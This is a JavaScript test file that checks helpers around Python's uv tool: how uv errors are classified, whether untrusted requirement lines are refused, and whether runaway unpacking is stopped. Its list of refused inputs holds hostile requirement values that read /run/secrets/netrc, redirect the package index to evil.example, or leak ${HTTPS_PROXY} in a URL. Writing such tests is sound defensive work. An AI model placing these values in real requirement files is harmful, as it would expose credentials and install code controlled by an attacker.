import { expect, test } from 'vitest';

import { runSteps } from '../support/run-steps.ts';

const lines = [
  'import json, sys, trusted_uv',
  'print(json.dumps([trusted_uv.Failed(words).is_temporary() for words in json.loads(sys.argv[1])]))',
];

test('a message of uv about a temporary failure is not an answer', async () => {
  const temporary = [
    'error: Failed to fetch: `https://index.example/simple/a/`\n  cause: HTTP status server error (503 Service Unavailable) for url (https://index.example/simple/a/)',
    'error: error sending request for url (https://index.example/simple/a/)\n  cause: client error (Connect)\n  cause: dns error',
    'error: Request failed after 3 retries\n  cause: connection reset by peer (os error 104)',
    'error: Failed to download distribution due to network timeout. Try increasing UV_HTTP_TIMEOUT (current value: 30s). timed out',
    'error: HTTP status client error (429 Too Many Requests) for url (https://index.example/a)',
  ];
  const answers = [
    'error: No solution found when resolving dependencies\n  cause: Because a was not found in the package registry',
    'error: HTTP status client error (404 Not Found) for url (https://index.example/a)',
    'error: HTTP status client error (403 Forbidden) for url (https://index.example/a)',
    'error: Because only a==503 is available and you require a>600, we can conclude that your requirements are unsatisfiable',
  ];
  const found = await runSteps(lines, JSON.stringify([...temporary, ...answers]));
  expect(found).toEqual([...temporary.map(() => true), ...answers.map(() => false)]);
});

test('a requirement from outside names neither a file nor a variable', async () => {
  const check = [
    'import json, sys',
    'from requirement_lines import Refused, requirement_lines',
    'def refused(text):',
    '    try:',
    '        return requirement_lines([text]) != [text]',
    '    except Refused:',
    '        return True',
    'print(json.dumps([refused(text) for text in json.loads(sys.argv[1])]))',
  ];
  const good = [
    'setuptools>=40.8.0',
    'wheel',
    'setuptools (>=61,<70)',
    'a[b,c]==1.0; python_version < "3.9" and extra == "x"',
    'a @ https://files.example/a-1.0-py3-none-any.whl',
    'a @ git+https://git.example/a.git@v1#subdirectory=b',
  ];
  const bad = [
    '-c /run/secrets/netrc',
    '--index-url=https://evil.example/simple',
    '-r other.txt',
    './directory',
    '/run/secrets/netrc',
    'a\n-c /run/secrets/netrc',
    'a @ file:///run/secrets/netrc',
    'a @ /run/secrets/netrc',
    'a @ https://evil.example/${HTTPS_PROXY}/a.whl',
    'https://evil.example/a.whl',
    '',
  ];
  const found = await runSteps(check, JSON.stringify([...good, ...bad]));
  expect(found).toEqual([...good.map(() => false), ...bad.map(() => true)]);
});

test('a uv that unpacks without end is ended', async () => {
  const run = [
    'import archive_limits, json, os, sys, trusted_uv',
    'endless = "while True: open(\\"/dev/null\\", \\"wb\\").write(bytes(1 << 20))"',
    'try:',
    '    trusted_uv.run([sys.executable, "-c", endless], os.environ, most=100 << 20)',
    'except archive_limits.TooLarge as error:',
    '    print(json.dumps(str(error)))',
  ];
  expect(await runSteps(run)).toBe('the packages that uv reads unpack to more than 100 MiB');
});
